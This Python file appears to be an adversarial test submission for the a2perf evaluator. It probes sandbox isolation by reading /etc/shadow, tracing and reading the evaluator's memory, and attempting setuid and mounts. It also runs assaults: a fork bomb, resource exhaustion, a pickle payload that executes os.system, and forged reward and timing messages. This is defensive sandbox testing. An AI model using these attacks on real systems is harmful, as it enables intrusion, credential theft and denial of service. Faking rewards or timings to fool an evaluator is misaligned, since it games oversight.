"""A submission that attacks its evaluator: each observation names the attack, the action says how far it came.

A *probe* tries one thing and answers with what it got, or with the name of the exception that stopped it. An *assault*
ends the process, or what the evaluator believes of it.
"""

from __future__ import annotations

import contextlib
import ctypes
import gc
import os
import pickle
import resource
import signal
import socket
import struct
import sys
import time
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)


def load_policy(env, **kwargs):
    return None


def infer_once(policy, observation):
    attack = globals()[observation["attack"]]
    arguments = {name: value for name, value in observation.items() if name != "attack"}
    if observation["attack"].startswith("assault_"):
        return attack(**arguments)
    try:
        return f"came through: {attack(**arguments)}"
    except BaseException as error:
        return f"stopped: {type(error).__name__}"


def preprocess_observation(observation):
    return observation


def _refused(result):
    """Raises what a system call's result means."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _syscall(number, *arguments):
    return _refused(LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(argument) for argument in arguments)))


# --- files ------------------------------------------------------------------------------------------------------------


def read_file(path):
    return Path(path).read_text()


def read_through_link(path):
    link = Path(os.environ["A2PERF_ARTIFACTS"], "innocent.txt")
    link.symlink_to(path)
    return link.read_text()


def read_password_hashes():
    return Path("/etc/shadow").read_text()[:40]


def write_file(path):
    Path(path).write_text("overwritten")
    return path


def write_through_link(path):
    link = Path(os.environ["A2PERF_ARTIFACTS"], "results")
    link.symlink_to(path)
    (link / "planted").write_text("planted")
    return os.path.realpath(link)


def write_above(levels, name):
    """Climbs out of the artifacts folder; what lies above it may exist, but must not be the host's."""
    target = Path(os.environ["A2PERF_ARTIFACTS"], *[".."] * levels, name)
    target.write_text("planted")
    return str(target)


def write_own_code():
    (Path(__file__).parent / "train.py").write_text("")
    return "the submission"


def write_platform():
    import a2perf

    Path(a2perf.__file__).open("a").close()
    return "a2perf"


def write_interpreter():
    (Path(sys.prefix) / "planted").write_text("")
    return sys.prefix


def write_large_file():
    with open(Path(os.environ["A2PERF_ARTIFACTS"], "large"), "wb", 0) as file:
        for _ in range(32):
            file.write(bytes(2**20))
    return "32 MiB"


def fill_scratch():
    with open("/tmp/large", "wb", 0) as file:
        for _ in range(256):
            file.write(bytes(2**20))
    return "256 MiB"


def open_disk():
    for name in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg"):
        if os.path.exists(name):
            return os.open(name, os.O_RDONLY)
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(254, 0))
    return os.open("/tmp/disk", os.O_RDONLY)


# --- network ----------------------------------------------------------------------------------------------------------


def connect_tcp(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as stream:
        stream.sendall(b"stolen")
    return port


def connect_abroad():
    with socket.create_connection(("192.0.2.1", 80), timeout=2):
        return "192.0.2.1"


def connect_abstract(name):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + name)
    return name


def connect_path(path):
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(path)
    return path


# --- other processes --------------------------------------------------------------------------------------------------


def signal_evaluator(pid):
    os.kill(pid, signal.SIGUSR2)
    return pid


def read_evaluator_memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return memory.read(4).hex()


def read_evaluator_environment(pid):
    return Path(f"/proc/{pid}/environ").read_bytes().decode()


def trace_evaluator(pid):
    return _refused(LIBC.ptrace(16, pid, None, None))


def copy_evaluator_memory(pid):
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_size_t * 2)(0x400000, 8)
    return _refused(LIBC.process_vm_readv(pid, local, 1, remote, 1, 0))


def trace_guard():
    return _refused(LIBC.ptrace(16, os.getppid(), None, None))


def find_process(marker):
    """Looks through every process for a word in its command line."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path("/proc", entry, "cmdline").read_bytes():
                    return entry
            except OSError:
                continue
    raise LookupError("no such process")


def signal_everything():
    signal.signal(signal.SIGUSR2, signal.SIG_IGN)
    os.kill(-1, signal.SIGUSR2)
    return "its own processes"


def inherited_environment(marker):
    if any(marker in value for value in os.environ.values()):
        return marker
    raise LookupError(marker)


def inherited_descriptors():
    """Looks for open files beyond the standard streams and the wire."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2 and os.path.lexists(f"/proc/self/fd/{name}"):
            found.append(os.readlink(f"/proc/self/fd/{name}"))
    stray = [
        target for target in found if target.startswith("/") and not target.startswith(("/proc", "/dev", "/memfd"))
    ]
    if not stray:
        raise LookupError("nothing")
    return stray


# --- the host ---------------------------------------------------------------------------------------------------------


def set_clock():
    time.clock_settime(time.CLOCK_REALTIME, time.clock_gettime(time.CLOCK_REALTIME))
    return "the clock"


def become_root():
    os.setuid(0)
    return os.getuid()


def make_namespace():
    return _refused(LIBC.unshare(0x10000000))


def mount_something():
    return _refused(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))


def load_kernel_program():
    return _syscall(321, 5, 0, 0)


def use_keyring():
    return _syscall(250, 0, -3, 1)


def core_pattern():
    Path("/proc/sys/kernel/core_pattern").write_text(Path("/proc/sys/kernel/core_pattern").read_text())
    return "core_pattern"


def raise_limits():
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "the size of a file"


# --- assaults ---------------------------------------------------------------------------------------------------------


def assault_fork_bomb():
    for _ in range(2000):  # bounded, should every limit fail
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            time.sleep(0.01)
    time.sleep(30)


def assault_four_gigabytes():
    return len(bytearray(4 * 2**30))


def assault_shared_memory(megabytes):
    import mmap

    block = mmap.mmap(-1, megabytes * 2**20)  # shared: no limit on private memory holds it
    for offset in range(0, len(block), 4096):
        block[offset] = 1
    time.sleep(30)


def assault_endless_loop():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass


def assault_output():
    line = b"x" * 2**20
    for _ in range(100):
        os.write(1, line)
    return 1


def assault_fill_the_disk(megabytes):
    for number in range(megabytes):  # many small files: no limit on one of them holds it
        Path(os.environ["A2PERF_ARTIFACTS"], str(number)).write_bytes(bytes(2**20))
    time.sleep(30)


def assault_daemons(folder):
    """Leaves a daemon behind that writes a file over and over, and says which it is."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        os.write(write, b"x")
        while True:
            Path(folder, "alive").write_text(str(time.time_ns()))
            time.sleep(0.01)
    os.read(read, 1)
    while not Path(folder, "alive").exists():
        time.sleep(0.01)
    return 1


def assault_late_answer():
    """Closes the wire and lives on."""
    _wire().close()
    time.sleep(30)


def assault_kill_everything():
    with contextlib.suppress(ProcessLookupError):  # there may be nobody but itself
        os.kill(-1, signal.SIGKILL)
    return 1


def _wire():
    """Finds the connection to the evaluator among the interpreter's objects, as an attacker would."""
    return next(thing for thing in gc.get_objects() if isinstance(thing, socket.socket) and thing.fileno() > 2)


def _send(data):
    _wire().sendall(data)
    time.sleep(30)


def _frame(body):
    return struct.pack("<III", len(body), 0, 0) + body


def assault_wrong_shape():
    import numpy

    return numpy.zeros((3, 7), numpy.float32)


def assault_not_a_number():
    import numpy

    return numpy.full(2, numpy.nan, numpy.float32)


def assault_huge_length():
    _send(struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, 0) + b"x")


def assault_pickle(path):
    class Planted:
        def __reduce__(self):
            return (os.system, (f"touch {path}",))

    _send(_frame(pickle.dumps(("ok", Planted(), 1, 1))))


def assault_extension_type():
    _send(_frame(b"\xc7\x01\x42\x00"))  # an extension type that the wire does not know


def assault_shared_offset():
    """An array that claims to lie far outside the frame."""
    header = bytes([3]) + b"<f4" + bytes([1]) + struct.pack("<Q", 4) + struct.pack("<Q", 1 << 40)
    _send(_frame(b"\x94\xa2ok" + bytes([0xC7, len(header), 2]) + header + b"\x01\x01"))


def assault_reward_message():
    """An answer that looks like a result."""
    import msgpack

    _send(_frame(msgpack.packb(["result", {"episode_return": 1e9}])))


def assault_answer_in_advance():
    import msgpack

    _wire().sendall(_frame(msgpack.packb(["ok", 0, 1, 1])) * 3)
    return 1


def assault_times_too_long():
    from a2perf.submission.participant import worker

    clock = time.perf_counter_ns
    worker.time.perf_counter_ns = lambda: clock() * 1000
    return 1


def assault_times_too_short():
    from a2perf.submission.participant import worker

    worker.time.perf_counter_ns = lambda: 1
    time.sleep(0.05)
    return 1
